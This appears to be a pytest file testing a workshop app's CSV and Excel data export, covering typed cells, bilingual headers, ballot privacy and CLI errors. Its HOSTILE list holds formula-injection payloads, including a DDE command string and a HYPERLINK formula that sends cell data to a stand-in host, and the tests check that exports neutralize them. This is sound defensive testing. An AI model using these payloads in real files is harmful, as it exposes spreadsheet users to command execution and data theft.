"""``reslab export-data``: every table of a real workshop file, read back with the ``csv``
module and with openpyxl — typed cells, headers in both languages, hostile text neutralized."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from reslab_desktop.exports.api import export_data
from reslab_desktop.exports.cells import EXCEL_TEXT_MAX, FORMULA_TRIGGERS
from reslab_desktop.exports.workshop_tables import TABLES
from reslab_desktop.interchange import export_json
from reslab_desktop.services import boards, notes, people, voting
from reslab_desktop.services.lab import decisions, initiatives, resources
from reslab_desktop.storage import Store

HOSTILE = ["=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=cmd|' /C calc'!A0", "\r=HYPERLINK(\"http://x\")",
           "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")"]
BENIGN = ["Reto: ¿cómo coordinarnos?", "1 = 1", "ñandú 🌽", " =indented"]


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def column(rows: list[list[str]], header: str) -> list[str]:
    i = rows[0].index(header)
    return [r[i] for r in rows[1:]]


@pytest.fixture
def hostile(store: Store) -> Store:
    org = people.add_organization(store, "=ORG()+1", "civil_society")
    p1 = people.add_participant(store, "@Ana", org)
    p2 = people.add_participant(store, "Beto", None)
    bid = boards.create_board(store, 2, "-Retos")
    ids = [notes.add_note(store, bid, text, i * 200.0, 0.0, author_id=p1) for i, text in enumerate(HOSTILE + BENIGN)]
    ini = initiatives.add_initiative(store, "+Red", lead_organization_id=org)
    resources.add_pledge(store, org, ini, "funding", 350000, description="=cuota")
    resources.add_pledge(store, org, ini, "expertise", 40)
    resources.add_need(store, ini, "funding", 500000)
    decisions.add_decision(store, 2, "set_priorities", "-prioridad", "local", [org], date="2026-03-19")
    named = voting.create_round(store, bid, "¿Cuáles primero?", hidden_until_reveal=False, candidates=tuple(ids[:3]),
                                dots_per_participant=2)
    secret = voting.create_round(store, bid, "Anónima", anonymous_voters=2, hidden_until_reveal=False,
                                 candidates=tuple(ids[:3]), dots_per_participant=1)
    hidden = voting.create_round(store, bid, "Oculta", candidates=tuple(ids[:3]), dots_per_participant=1)
    for rid in (named, secret, hidden):
        voting.open_round(store, rid)
    rnd = voting.get_round(store, named)
    voting.cast_dot(store, named, rnd.voters[0].id, ids[0])
    voting.cast_dot(store, named, rnd.voters[1].id, ids[1])
    voting.cast_dot(store, secret, voting.get_round(store, secret).voters[0].id, ids[2])
    voting.cast_dot(store, hidden, voting.get_round(store, hidden).voters[0].id, ids[2])
    voting.close_round(store, named)
    voting.close_round(store, secret)
    assert p2
    return store


def test_hostile_cells_are_neutralized_in_csv_and_excel(hostile: Store, tmp_path: Path) -> None:
    export_data(hostile, csv_dir=tmp_path / "csv", xlsx=tmp_path / "data.xlsx", lang="es")
    rows = read_csv(tmp_path / "csv" / "notes.csv")
    texts = column(rows, "Texto")
    assert texts == ["'" + t for t in HOSTILE] + BENIGN
    assert set(column(rows, "Autor/a")) == {"'@Ana"}
    assert set(column(rows, "Tablero")) == {"'-Retos"}
    for path in (tmp_path / "csv").glob("*.csv"):
        for row in read_csv(path):
            assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), (path.name, row)

    book = openpyxl.load_workbook(tmp_path / "data.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (sheet.title, cell.coordinate, cell.value)
    sheet = book["Notas"]
    shown = [r[5] for r in sheet.iter_rows(min_row=2, values_only=True)]
    # the same neutralized text; a carriage return becomes a line feed (Excel's line break)
    assert shown == ["'" + t.replace("\r", "\n") for t in HOSTILE] + BENIGN
    assert book["Compromisos"]["E2"].value == "'=cuota"


def test_excel_cells_are_typed_with_header_frozen_panes_and_widths(hostile: Store, tmp_path: Path) -> None:
    export_data(hostile, xlsx=tmp_path / "data.xlsx", lang="es")
    book = openpyxl.load_workbook(tmp_path / "data.xlsx")
    assert book.sheetnames == [t.es for t in TABLES]
    for spec in TABLES:
        sheet = book[spec.es]
        assert [c.value for c in sheet[1]] == spec.headers("es")
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref
        assert all(sheet.column_dimensions[c.column_letter].width >= 6 for c in sheet[1])
        assert sheet["A1"].font.b
    pledges = book["Compromisos"]
    funding, hours = pledges["F2"], pledges["F3"]
    assert funding.value == 350000 and funding.data_type == "n" and "MXN" in funding.number_format
    assert "$" in funding.number_format
    assert hours.value == 40 and hours.number_format != funding.number_format
    assert pledges["H2"].value is False and pledges["H2"].data_type == "b"
    decided = book["Decisiones"]
    assert decided["G2"].value == datetime(2026, 3, 19) and decided["G2"].is_date
    assert decided["E2"].value == "Organizaciones locales"
    results = book["Resultados de votación"]
    assert results["E2"].data_type == "n" and results["H2"].number_format == "0%"


def test_ballots_only_of_rounds_that_are_not_anonymous_and_no_hidden_counts(hostile: Store, tmp_path: Path) -> None:
    export_data(hostile, csv_dir=tmp_path, lang="en")
    ballots = read_csv(tmp_path / "ballots.csv")
    assert ballots[0][:4] == ["Round ID", "Question", "Participant ID", "Voter"]
    assert {r[1] for r in ballots[1:]} == {"¿Cuáles primero?"}
    assert sorted(r[3] for r in ballots[1:]) == ["'@Ana", "Beto"]
    results = read_csv(tmp_path / "vote_results.csv")
    questions = [r[1] for r in results[1:]]
    assert "Oculta" not in questions  # a hidden round still open shows no counts
    assert questions.count("Anónima") == questions.count("¿Cuáles primero?") == 3
    first = dict(zip(results[0], results[1], strict=True))
    assert first["Rank"] == "1" and first["Tied"] == "yes" and first["Dots"] == "1" and first["Status"] == "closed"


def test_headers_in_spanish_and_english(hostile: Store, tmp_path: Path) -> None:
    export_data(hostile, csv_dir=tmp_path / "es", lang="es")
    export_data(hostile, csv_dir=tmp_path / "en", lang="en")
    for spec in TABLES:
        es, en = read_csv(tmp_path / "es" / f"{spec.key}.csv"), read_csv(tmp_path / "en" / f"{spec.key}.csv")
        assert es[0] == spec.headers("es") and en[0] == spec.headers("en") and es[0] != en[0]
        assert len(es) == len(en)
    notes_en = read_csv(tmp_path / "en" / "notes.csv")
    assert notes_en[0][-1] == "Origin" and {r[-1] for r in notes_en[1:]} == {"app window"}  # notes.origin (v4)
    pledges = {r[0]: r for r in read_csv(tmp_path / "en" / "pledges.csv")[1:]}
    assert sorted(r[3] for r in pledges.values()) == ["Expertise", "Funding"]
    assert sorted(r[5] for r in pledges.values()) == ["350000", "40"]


def test_the_demo_exports_every_row_its_json_has(demo_file: Path, tmp_path: Path) -> None:
    with Store.open(demo_file, read_only=True) as store:
        doc = json.loads(export_json(store))
        export_data(store, csv_dir=tmp_path, xlsx=tmp_path / "demo.xlsx")
    counts = {p.stem: len(read_csv(p)) - 1 for p in tmp_path.glob("*.csv")}
    assert sorted(counts) == sorted(t.key for t in TABLES)
    assert counts["notes"] == sum(len(b["notes"]) for b in doc["boards"])
    assert counts["decisions"] == len(doc["decisions"]["log"])
    assert counts["pledges"] == len(doc["resources"]["pledges"])
    assert counts["needs"] == len(doc["resources"]["needs"])
    assert counts["initiatives"] == len(doc["initiatives"])
    assert counts["action_plans"] == len(doc["action_plans"])
    assert counts["participants"] == len(doc["participants"])
    assert counts["organizations"] == len(doc["organizations"])
    assert counts["attendance"] == sum(len(s.get("attendance", [])) for s in doc["sessions"])
    named = [v for v in doc["votes"] if not v["anonymous"] and v["status"] == "closed"]
    assert counts["ballots"] == sum(len(v["ballots"]) for v in named)
    funding = sum(p["amount"] for p in doc["resources"]["pledges"] if p["kind"] == "funding")
    book = openpyxl.load_workbook(tmp_path / "demo.xlsx", read_only=True)
    sheet = book["Compromisos"]
    cells = [r for r in sheet.iter_rows(min_row=2, values_only=True) if r[3] == "Fondos"]
    assert sum(r[5] for r in cells) == funding
    book.close()


def test_long_and_control_text_fits_an_excel_cell(store: Store, tmp_path: Path) -> None:
    bid = boards.create_board(store, 1, "B")
    notes.add_note(store, bid, "x" * 40_000, 0, 0)
    notes.add_note(store, bid, "a\x01b\x7fc\u0008d", 0, 200)
    export_data(store, csv_dir=tmp_path, xlsx=tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["Notas"]
    assert len(sheet["F2"].value) == EXCEL_TEXT_MAX and sheet["F2"].value.endswith("…")
    assert sheet["F3"].value == "ab\x7fcd"
    assert column(read_csv(tmp_path / "notes.csv"), "Texto") == ["x" * 40_000, "a\x01b\x7fc\u0008d"]


def reslab(*args: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "reslab_desktop", *map(str, args)], capture_output=True,
                          text=True, encoding="utf-8", timeout=120)


def test_cli_writes_both_and_refuses_bad_outputs_in_one_line(demo_file: Path, tmp_path: Path) -> None:
    done = reslab("export-data", demo_file, "--csv", tmp_path / "csv", "--xlsx", tmp_path / "d.xlsx", "--lang", "en")
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "csv" / "notes.csv").exists() and (tmp_path / "d.xlsx").exists()
    assert read_csv(tmp_path / "csv" / "notes.csv")[0][0] == "Note ID"
    cases = [
        (("export-data", demo_file), "--csv DIR"),
        (("export-data", demo_file, "--xlsx", tmp_path / "d.csv"), "should end in .xlsx"),
        (("export-data", demo_file, "--xlsx", tmp_path / "none" / "d.xlsx"), "does not exist"),
        (("export-data", demo_file, "--csv", tmp_path / "d.xlsx"), "is a file"),
        (("export-data", tmp_path / "missing.reslab", "--xlsx", tmp_path / "m.xlsx"), "no such file"),
        (("export-data", demo_file, "--csv", tmp_path / "a" / "b"), "does not exist"),
    ]
    for args, message in cases:
        done = reslab(*args)
        assert done.returncode == 2, (args, done.stderr)
        lines = done.stderr.splitlines()
        assert len(lines) == 1 and message in lines[0] and "Traceback" not in done.stderr, (args, done.stderr)
    assert not (tmp_path / "m.xlsx").exists() and not (tmp_path / "a").exists()
    assert not list(tmp_path.glob(".*.part"))


def test_an_unwritable_folder_is_a_one_line_error(demo_file: Path, tmp_path: Path) -> None:
    """A folder that refuses files (here /proc, which even root cannot write): exit 2, one line."""
    if not Path("/proc/self").exists():
        pytest.skip("needs Linux's /proc")
    for args in (("--xlsx", "/proc/d.xlsx"), ("--csv", "/proc/datos")):
        done = reslab("export-data", demo_file, *args)
        assert done.returncode == 2 and len(done.stderr.splitlines()) == 1, done.stderr
        assert "cannot" in done.stderr and "Traceback" not in done.stderr
